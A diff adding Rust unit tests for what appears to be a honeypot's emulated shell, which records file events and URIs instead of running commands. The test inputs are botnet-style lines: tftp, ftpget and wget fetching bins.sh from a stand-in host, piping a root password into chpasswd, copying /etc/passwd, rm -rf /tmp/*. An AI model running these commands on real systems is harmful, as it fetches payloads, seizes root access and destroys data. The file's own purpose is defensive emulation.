+        sh.exec_line("tftp -g -r tftp1.sh 203.0.113.5");
+        assert!(matches!(&sh.file_events()[0].op, FileOp::Created { .. }));
+        assert!(sh.uris().iter().any(|u| u == "tftp://203.0.113.5/tftp1.sh"));
+        sh.exec_line("ftpget -u anonymous -p pw 203.0.113.5 f.bin f.bin");
+        assert!(matches!(&sh.file_events()[1].op, FileOp::Created { .. }));
+    }
+
+    #[test]
+    fn busybox_applets_and_probe() {
+        let s = store();
+        let mut sh = Shell::new(&s);
+        let out = sh.exec_line("/bin/busybox KDVJS");
+        assert_eq!(out.output.trim(), "KDVJS: applet not found");
+        assert!(out.known);
+        sh.exec_line("/bin/busybox wget http://203.0.113.5/bins.sh");
+        assert!(matches!(&sh.file_events()[0].op, FileOp::Created { .. }));
+        let cat = sh.exec_line("/bin/busybox cat /proc/self/exe || cat /proc/self/exe");
+        assert!(cat.output.contains("ELF"));
+    }
+
+    #[test]
+    fn passwd_and_crontab_are_state_changes() {
+        let s = store();
+        let mut sh = Shell::new(&s);
+        sh.exec_line("echo root:Ab0Cd1Ef2Gh3Jk4X|chpasswd|bash");
+        assert!(sh.root_password_changed());
+        assert!(sh.file_events().iter().any(|e| e.path == "/etc/shadow"));
+        sh.exec_line("crontab /tmp/cron");
+        assert!(sh.file_events().iter().any(|e| e.path == "/var/spool/cron/root"));
+    }
+
+    #[test]
+    fn unknown_command_is_recorded_not_emulated() {
+        let s = store();
+        let mut sh = Shell::new(&s);
+        let out = sh.exec_line("juicessh --probe");
+        assert!(!out.known);
+        assert!(out.output.contains("command not found"));
+    }
+
+    #[test]
+    fn sh_dash_c_executes_inline() {
+        let s = store();
+        let mut sh = Shell::new(&s);
+        sh.exec_line(r#"sh -c "wget http://203.0.113.5/bins.sh""#);
+        assert!(matches!(&sh.file_events()[0].op, FileOp::Created { .. }));
+    }
+
+    #[test]
+    fn cat_to_file_is_creation() {
+        let s = store();
+        let mut sh = Shell::new(&s);
+        sh.exec_line("cat /etc/passwd > /tmp/pw");
+        let ev = sh.file_events();
+        assert!(matches!(&ev[0].op, FileOp::Created { .. }));
+        assert_eq!(ev[0].path, "/tmp/pw");
+    }
+
+    #[test]
+    fn rm_star_empties_directory() {
+        let s = store();
+        let mut sh = Shell::new(&s);
+        sh.exec_line("echo a > /tmp/a; echo b > /tmp/b");
+        sh.exec_line("cd /tmp; rm -rf /tmp/*");
+        let dels =
+            sh.file_events().iter().filter(|e| matches!(e.op, FileOp::Deleted)).count();
+        assert_eq!(dels, 2);
+    }
+
+    #[test]
+    fn uri_extraction_from_arbitrary_commands() {
+        assert_eq!(
+            extract_uris("wget http://a/b; curl https://c/d 'ftp://e/f'"),
+            vec!["http://a/b", "https://c/d", "ftp://e/f"]
+        );
+        assert!(extract_uris("echo ://nothing").is_empty());
+    }
+
+    #[test]
+    fn download_without_scheme_defaults_to_http() {
+        let s = store();
+        let mut sh = Shell::new(&s);
+        sh.exec_line("wget 203.0.113.5/bins.sh");
+        assert!(matches!(&sh.file_events()[0].op, FileOp::Created { .. }));
+    }
+
+    #[test]
+    fn dd_fingerprint_and_write() {
+        let s = store();
+        let mut sh = Shell::new(&s);
+        let out = sh.exec_line("dd if=/proc/self/exe bs=22 count=1");
+        assert!(out.output.contains("ELF"));
+        assert!(sh.file_events().is_empty());
+        sh.exec_line("dd if=/etc/passwd of=/tmp/c");
+        assert!(matches!(&sh.file_events()[0].op, FileOp::Created { .. }));
+    }
+}
